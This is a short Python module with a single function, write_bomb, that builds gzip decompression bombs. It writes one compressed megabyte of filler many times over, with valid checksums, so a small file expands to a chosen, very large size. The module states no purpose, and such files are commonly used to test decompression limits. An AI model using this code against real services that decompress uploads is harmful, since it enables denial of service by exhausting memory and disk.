"""Small compressed files that hold a great deal."""

import struct
import zlib
from pathlib import Path

_MEGABYTE = 1024 * 1024
_HEAD = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"


def write_bomb(path: Path, before: bytes, filler: bytes, megabytes: int, after: bytes) -> None:
    """Write one gzip member: `before`, then as many megabytes of `filler` repeated, then `after`.

    What is repeated is compressed once, and stands for itself wherever it is put.
    """
    block = (filler * (_MEGABYTE // len(filler) + 1))[: _MEGABYTE // len(filler) * len(filler)]
    deflate = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    with path.open("wb") as file:
        file.write(_HEAD + deflate.compress(before) + deflate.flush(zlib.Z_FULL_FLUSH))
        packed = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
        checksum = zlib.crc32(before)
        for _ in range(megabytes):
            file.write(packed)
            checksum = zlib.crc32(block, checksum)
        file.write(deflate.compress(after) + deflate.flush())
        size = len(before) + len(block) * megabytes + len(after)
        file.write(struct.pack("<II", zlib.crc32(after, checksum), size % 2**32))
